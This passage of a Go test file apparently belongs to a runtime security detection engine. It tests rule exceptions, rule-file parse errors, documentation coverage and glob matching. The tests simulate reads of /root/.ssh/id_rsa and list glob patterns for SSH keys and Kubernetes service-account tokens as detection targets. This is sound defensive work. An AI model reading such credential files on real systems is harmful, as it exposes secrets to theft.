		e := newEngine(t, Config{RuleTexts: [][]byte{[]byte(user)}})
		for _, v := range runSteps(t, e, 11, []rstep{execOf(100, "/usr/bin/restic"), openOf(100, "/root/.ssh/id_rsa", 0)}) {
			if v.Rule == "ssh-private-key-read" {
				t.Error("appended exception did not silence the default rule")
			}
		}
		n := 0
		for _, v := range runSteps(t, e, 12, []rstep{execOf(100, "/bin/cat"), openOf(100, "/root/.ssh/id_rsa", 0)}) {
			if v.Rule == "ssh-private-key-read" {
				n++
			}
		}
		if n != 1 {
			t.Errorf("default rule fired %d times after the append, want 1", n)
		}
	})
	t.Run("numbers", func(t *testing.T) {
		text := base + "    \n  - rule: raw\n    class: network\n    severity: low\n    syscalls: [socket]\n    exceptions: [{name: icmp, fields: [arg0, arg2], comps: [=, in], values: [[AF_INET, [1, 58]]]}]\n"
		e := newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(text)}})
		got := runSteps(t, e, 13, []rstep{sys(100, "socket", func(e *event.Event) { e.Args[0], e.Args[2] = 2, 1 }),
			sys(101, "socket", func(e *event.Event) { e.Args[0], e.Args[2] = 2, 6 })})
		if len(got) != 1 || got[0].PID != 101 {
			t.Errorf("want one verdict for pid 101, got %d", len(got))
		}
	})
}

func TestRuleFileErrors(t *testing.T) {
	rule := "rules:\n  - rule: r\n    class: network\n    severity: low\n    syscalls: [socket]\n"
	for _, tc := range []struct{ name, text, want string }{
		{"newer engine", "required_engine_version: 9.1.0\n" + rule, "required_engine_version 9.1.0: this file needs a newer rule engine than this vigil's (" + EngineVersion + ")"},
		{"bad version", "required_engine_version: one\n" + rule, `required_engine_version: "one" is not a version`},
		{"maturity", rule + "    maturity: beta\n", `maturity "beta": unknown, use one of stable, incubating, sandbox, deprecated`},
		{"tags", rule + "    tags: T1611\n", "tags: want a list"},
		{"tag with space", rule + "    tags: [\"a b\"]\n", "a tag is one word"},
		{"exception field", rule + "    exceptions: [{name: x, fields: [pth], values: [[a]]}]\n", `exception field "pth": unknown; allowed: addr, arg0`},
		{"exception comp", rule + "    exceptions: [{name: x, fields: [path], comps: [like], values: [[a]]}]\n", `comparison "like": unknown; allowed: =, !=, in, glob`},
		{"exception arity", rule + "    exceptions: [{name: x, fields: [path, exe], values: [[a]]}]\n", "a value has 1 items for the 2 fields path, exe"},
		{"exception comps count", rule + "    exceptions: [{name: x, fields: [path, exe], comps: [=], values: [[a, b]]}]\n", "1 comps for 2 fields"},
		{"exception key", rule + "    exceptions: [{name: x, field: [path]}]\n", `unknown key "field"; allowed: name, fields, comps, values`},
		{"exception no name", rule + "    exceptions: [{fields: [path]}]\n", "an exception needs a name"},
		{"exception twice", rule + "    exceptions: [{name: x, fields: [path]}, {name: x, fields: [exe]}]\n", `exception "x" is defined twice`},
		{"append to nothing", rule + "  - rule: r\n    override: {exceptions: append}\n    exceptions: [{name: y, values: [[a]]}]\n", `exception "y": no exception of that name to append to`},
		{"patch unknown rule", "rules:\n  - rule: nope\n    override: {exceptions: append}\n    exceptions: []\n", `rule "nope": no earlier rule of that name to change`},
		{"patch other keys", rule + "  - rule: r\n    override: {exceptions: append}\n    exceptions: []\n    severity: high\n", `may only give exceptions and enabled, not "severity"`},
		{"override key", rule + "  - rule: r\n    override: {severity: replace}\n", `override: "severity" cannot be changed; allowed: exceptions (append or replace), enabled (replace)`},
		{"override mode", rule + "  - rule: r\n    override: {exceptions: merge}\n    exceptions: []\n", `exceptions: "merge": use append or replace`},
		{"sample exceptions", "rules:\n  - sample: s\n    class: cpu-abuse\n    severity: low\n    when: {cpu_cores: {ge: 1}}\n    exceptions: []\n", "exceptions belong to event rules"},
		{"top key", "rule:\n  - x\n", "allowed: required_engine_version, lists, macros, rules"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(tc.text)}})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want an error with %q", err, tc.want)
			}
		})
	}
	// this engine's own version and older ones load
	for _, v := range []string{EngineVersion, "0.9", "1"} {
		if _, err := New(Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(fmt.Sprintf("required_engine_version: %s\n%s", v, rule))}}); err != nil {
			t.Errorf("version %s: %v", v, err)
		}
	}
}

// TestDocsNameEveryRule keeps docs/rules.md true: every default rule
// (sandbox ones included) has a row there and in RULES.md.
func TestDocsNameEveryRule(t *testing.T) {
	e := newEngine(t, Config{RuleTexts: [][]byte{sandboxOn}})
	for _, f := range []string{"../docs/rules.md", "RULES.md"} {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range e.Rules() {
			if !strings.Contains(string(b), "`"+n+"`") {
				t.Errorf("%s does not name the default rule %s", f, n)
			}
		}
	}
}

// TestGlobPrefilter: the literal parts checked before a glob never turn
// a match into a miss.
func TestGlobPrefilter(t *testing.T) {
	pats := []string{"*/.ssh/id_*", "/etc/ssh/ssh_host_*_key", "/var/run/secrets/*/serviceaccount/*token", "*.1?", "a*a", "?", "*-20??????.*",
		"/proc/*/ns/*", "*x*y*z*", "ab?d*", "*", "**", "/a/*/b"}
	strs := []string{"", "a", "aa", "aba", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa.pub", "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_rsa_key.pub",
		"/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/x/serviceaccount/..2026/token", "app.log.12", "app.log.1",
		"x-20261201.gz", "/proc/1/ns/mnt", "/proc/self/ns", "xyz", "zyx", "abcd", "abcdef", "/a/x/b", "/a/b", "/a//b"}
	for _, p := range pats {
		g := newGlobPat(p)
		for _, s := range strs {
			if got, want := g.match(s), glob(p, s); got != want {
				t.Errorf("pattern %q on %q: prefiltered %v, glob %v", p, s, got, want)
			}
		}
	}
}
